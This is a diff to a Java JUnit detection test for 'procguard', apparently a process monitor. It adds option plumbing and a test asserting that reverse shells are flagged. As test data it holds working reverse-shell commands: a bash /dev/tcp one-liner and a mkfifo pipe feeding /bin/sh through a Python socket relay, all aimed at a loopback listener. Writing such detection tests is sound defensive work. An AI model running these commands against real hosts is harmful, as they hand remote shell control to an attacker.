@@ -21,6 +21,8 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.Timeout;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /**
  * End to end with the bundled ONNX model (no test classifier): classic attacks written the way people
@@ -37,7 +39,14 @@ class RunDetectionTest {
 
     /** Runs CMD under {@code procguard run --json} and returns the worst status any process reached. */
     private Status worstStatus(List<String> reasonsOut, String... cmd) throws Exception {
-        List<String> args = new ArrayList<>(List.of("run", "--no-shm", "--json", "--"));
+        return worstStatus(List.of(), reasonsOut, cmd);
+    }
+
+    /** As {@link #worstStatus(List, String...)}, with more {@code run} options (e.g. {@code --seccomp-bpf}). */
+    private Status worstStatus(List<String> options, List<String> reasonsOut, String... cmd) throws Exception {
+        List<String> args = new ArrayList<>(List.of("run", "--no-shm", "--json"));
+        args.addAll(options);
+        args.add("--");
         args.addAll(List.of(cmd));
         MonitorProcess.Result r = MonitorProcess.run(dir, args.toArray(String[]::new));
         Status worst = Status.UNKNOWN;
@@ -60,6 +69,11 @@ class RunDetectionTest {
      * reads until it hangs up, while CMD (with {@code PORT} replaced by the listening port) runs under procguard.
      */
     private Status worstStatusOfReverseShell(String commands, List<String> reasons, String shellCommand) throws Exception {
+        return worstStatusOfReverseShell(List.of(), commands, reasons, shellCommand);
+    }
+
+    private Status worstStatusOfReverseShell(List<String> options, String commands, List<String> reasons, String shellCommand)
+            throws Exception {
         try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
             Thread attacker = new Thread(() -> {
                 try (Socket s = listener.accept()) {
@@ -73,7 +87,7 @@ class RunDetectionTest {
                 }
             });
             attacker.start();
-            Status worst = worstStatus(reasons, "/bin/bash", "-c",
+            Status worst = worstStatus(options, reasons, "/bin/bash", "-c",
                     shellCommand.replace("PORT", Integer.toString(listener.getLocalPort())));
             attacker.join(10_000);
             return worst;
@@ -94,6 +108,37 @@ class RunDetectionTest {
         Status worst = worstStatusOfReverseShell("cat /etc/hostname\nexit\n", reasons,
                 "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1");
         assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+    }
+
+    /**
+     * The relay spelling (revshells.com's "nc mkfifo" and "OpenSSL"): the socket is the relay's, the shell only sees a
+     * pipe. The relay is a few lines of Python standing in for nc (not installed on CI): connect, copy both ways, and
+     * half-close the socket when the shell's output ends. Full and lean traces.
+     */
+    @ParameterizedTest
+    @ValueSource(strings = {"", "--seccomp-bpf"})
+    void aShellFedByARelayThroughAFifoIsFlagged(String mode) throws Exception {
+        Path relay = dir.resolve("relay.py");
+        Files.writeString(relay, """
+                import socket,sys,os,threading
+                s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))
+                def up():
+                    while True:
+                        d=os.read(0,4096)
+                        if not d: break
+                        s.sendall(d)
+                    s.shutdown(socket.SHUT_WR)
+                threading.Thread(target=up,daemon=True).start()
+                while True:
+                    d=s.recv(4096)
+                    if not d: break
+                    os.write(1,d)
+                """);
+        List<String> reasons = new ArrayList<>();
+        Status worst = worstStatusOfReverseShell(mode.isEmpty() ? List.of() : List.of(mode), "id\nuname -a\nexit\n", reasons,
+                "cd '" + dir + "' && rm -f f && mkfifo f && cat f | /bin/sh -i 2>&1 | /usr/bin/python3 relay.py PORT > f");
+        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
+        assertThat(reasons).anyMatch(r -> r.startsWith("sh: ind.reverse_shell=1 (+"));
     }
 
     @Test
